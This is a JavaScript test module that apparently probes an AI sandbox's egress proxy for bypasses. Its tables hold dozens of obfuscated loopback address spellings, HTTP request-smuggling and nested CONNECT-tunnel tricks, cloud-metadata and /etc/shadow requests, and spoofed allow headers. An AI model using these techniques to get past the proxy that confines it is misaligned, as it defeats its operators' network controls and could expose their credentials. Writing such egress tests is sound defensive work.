import { attempt, NotTried } from "./attempt.mjs";
import { reach } from "./connect.mjs";

/* Attempts to make the proxy connect to forbidden addresses. A canary there answers with its text. */
const proxy = () => {
  const named = process.env.HTTP_PROXY ?? process.env.http_proxy ?? "";
  if (named === "") throw new NotTried("no proxy found");
  const { hostname, password, port, username } = new URL(named);
  const login = username === "" ? "" : Buffer.from(`${username}:${password}`).toString("base64");
  const head = login === "" ? "" : `Proxy-Authorization: Basic ${login}\r\n`;
  return { where: { host: hostname, port: Number(port) }, head };
};

/** Sends a text to the proxy, with the login header in place of `HEAD`. @throws when no canary answers */
async function asked(sent, { canary }) {
  const { head, where } = proxy();
  const got = await reach(where, sent.replaceAll("HEAD", head));
  if (got.includes(canary)) return got;
  throw new Error(got.slice(0, 120));
}

const get = (url, host = "canary") =>
  `GET ${url} HTTP/1.1\r\nHost: ${host}\r\nHEADConnection: close\r\n\r\n`;
const tunnel = (authority, then = "") =>
  `CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\nHEAD\r\n${then}`;
const inner = "GET /tunnelled HTTP/1.0\r\nHost: canary\r\n\r\n";

/** Spellings of an address of this machine. */
const spellings = {
  unchanged: () => "127.0.0.1",
  "by name": () => "localhost",
  "by name with a dot": () => "localhost.",
  "by name in upper case": () => "LOCALHOST",
  "by a name below localhost": () => "a.localhost",
  "by the machine's name": ({ hostname }) => hostname,
  "by a name of the hosts file": () => "ip6-localhost",
  "by a public DNS name (nip.io)": () => "127.0.0.1.nip.io",
  "by a public DNS name (localtest.me)": () => "localtest.me",
  "in two parts": () => "127.1",
  "as a number": () => "2130706433",
  "as a hexadecimal number": () => "0x7f000001",
  "with hexadecimal parts": () => "0x7f.0.0.0x1",
  "with octal parts": () => "0177.0.0.01",
  "with a part that overflows": () => "127.0.0.257",
  "with a dot": () => "127.0.0.1.",
  "as zero": () => "0",
  "as any address": () => "0.0.0.0",
  "as another address of loopback": () => "127.254.1.9",
  "in full-width digits": () => "１２７.０.０.１",
  "with ideographic stops": () => "127。0。0。1",
  "percent-encoded": () => "%31%32%37.0.0.1",
  "of IPv6": () => "[::1]",
  "of IPv6 in full": () => "[0:0:0:0:0:0:0:1]",
  "as any address of IPv6": () => "[::]",
  "as an IPv4 address in IPv6": () => "[::ffff:127.0.0.1]",
  "as an IPv4 address in IPv6, in hexadecimal": () => "[::ffff:7f00:1]",
  "as a compatible IPv4 address in IPv6": () => "[::127.0.0.1]",
  "as a translated address (NAT64)": () => "[64:ff9b::7f00:1]",
  "as an address of 6to4": () => "[2002:7f00:1::1]",
  "of IPv6 with a zone": () => "[::1%25lo]",
  "as an address of an interface": ({ addresses }) => addresses.v4[0],
  "as an IPv6 address of an interface": ({ addresses }) =>
    addresses.v6[0] && `[${addresses.v6[0]}]`,
  "as a link-local address": ({ addresses }) =>
    addresses.local[0] && `[${addresses.local[0].replace("%", "%25")}]`,
};

for (const [how, hostOf] of Object.entries(spellings)) {
  attempt("proxy", `an address of this machine ${how}`, async (targets) => {
    const host = hostOf(targets);
    if (!host) throw new NotTried("this machine has no such address");
    const at = `${host}:${targets.port}`;
    const ways = [tunnel(at, inner), get(`http://${at}/spelled`), get(`http://${at}/own`, at)];
    let refusal = new Error("no answer");
    for (const sent of ways) {
      try {
        return await asked(sent, targets);
      } catch (error) {
        if (error instanceof NotTried) throw error;
        refusal = error;
      }
    }
    throw refusal;
  });
}

/** Ambiguous requests. `at` is a forbidden address, `open` an allowed one. */
const tricks = {
  "a user before the host": ({ at, open }) => get(`http://${open}@${at}/`),
  "a user after the host": ({ at, open }) => get(`http://${at}@${open}/`, at),
  "another Host header": ({ at, open }) => get(`http://${open}/`, at),
  "a backslash in the address": ({ at, open }) => get(`http://${open}\\@${at}/`),
  "a fragment in the address": ({ at, open }) => get(`http://${at}#@${open}/`),
  "a path alone and a Host header": ({ at }) => get("/", at),
  "two Host headers": ({ at, open }) =>
    `GET http://${open}/ HTTP/1.1\r\nHost: ${open}\r\nHost: ${at}\r\nHEADConnection: close\r\n\r\n`,
  "a second request after an allowed request": ({ at, open }) =>
    `GET http://${open}/ HTTP/1.1\r\nHost: ${open}\r\nHEAD\r\n${get(`http://${at}/behind`)}`,
  "a second path after an allowed request": ({ at, open }) =>
    `GET http://${open}/ HTTP/1.1\r\nHost: ${open}\r\nHEAD\r\n${get("/behind", at)}`,
  "a request in the body of an allowed request": ({ at, open }) =>
    `POST http://${open}/ HTTP/1.1\r\nHost: ${open}\r\nHEADContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${get(`http://${at}/smuggled`)}`,
  "a tunnel in an allowed tunnel": ({ at, open }) => tunnel(open, tunnel(at, inner)),
  "a tunnel to an allowed host's other port": ({ open, port }) =>
    tunnel(`${open.split(":")[0]}:${port}`, inner),
  "a tunnel without a port": () => tunnel("127.0.0.1", inner),
  "a tunnel with two ports": ({ at, open }) => tunnel(`${open}:${at.split(":")[1]}`, inner),
  "a tunnel to a URL": ({ at }) => tunnel(`http://${at}/`, inner),
  "a tunnel with a user": ({ at, open }) => tunnel(`${open}@${at}`, inner),
  "a line break in the authority": ({ at, open }) => tunnel(`${open}\nHost: ${at}`, inner),
  "a zero byte in the host": ({ at, open }) => tunnel(`${at}\0.${open}`, inner),
  "a file instead of a host": () => get("file:///etc/shadow"),
  "a redirect that the proxy may follow": ({ at, open }) =>
    get(`http://${open}/redirect?to=${encodeURIComponent(`http://${at}/`)}`, open),
  "an upgrade to another protocol": ({ at, open }) =>
    `GET http://${open}/ HTTP/1.1\r\nHost: ${open}\r\nHEADConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n${get(`http://${at}/upgraded`)}`,
  "the header that names the client": ({ at }) =>
    `GET http://${at}/ HTTP/1.1\r\nHost: ${at}\r\nHEADX-Forwarded-For: 8.8.8.8\r\nForwarded: host=${at}\r\nConnection: close\r\n\r\n`,
};

for (const [what, requestOf] of Object.entries(tricks)) {
  attempt("request", what, (targets) => {
    const at = `127.0.0.1:${targets.port}`;
    const open = targets.model;
    return asked(requestOf({ at, open, port: targets.port }), targets);
  });
}

attempt("request", "the metadata service of a cloud", async () => {
  const { head, where } = proxy();
  const sent = get("http://169.254.169.254/latest/meta-data/", "169.254.169.254");
  const got = await reach(where, sent.replaceAll("HEAD", head));
  if (!/ 200 /.test(got.split("\r\n")[0] ?? "")) throw new Error(got.slice(0, 120));
  return got;
});

attempt("request", "the proxy itself", async (targets) => {
  const { where } = proxy();
  return await asked(
    tunnel(`${where.host}:${where.port}`, tunnel(`127.0.0.1:${targets.port}`, inner)),
    targets,
  );
});

attempt("request", "the server", async ({ server }) => {
  const { head, where } = proxy();
  const got = await reach(where, tunnel(`127.0.0.1:${server}`, inner).replaceAll("HEAD", head));
  if (/^connected: HTTP\/1\.[01] 200/.test(got)) return got;
  throw new Error(got.slice(0, 120));
});

attempt("request", "another address of the model", async (targets) => {
  const { head, where } = proxy();
  const headers = `${head}X-Uncaged-Allow: 127.0.0.1:${targets.port}\r\nANTHROPIC_BASE_URL: http://127.0.0.1:${targets.port}\r\n`;
  const got = await reach(
    where,
    get(`http://127.0.0.1:${targets.port}/`).replaceAll("HEAD", headers),
  );
  return got.includes(targets.canary) ? got : null;
});
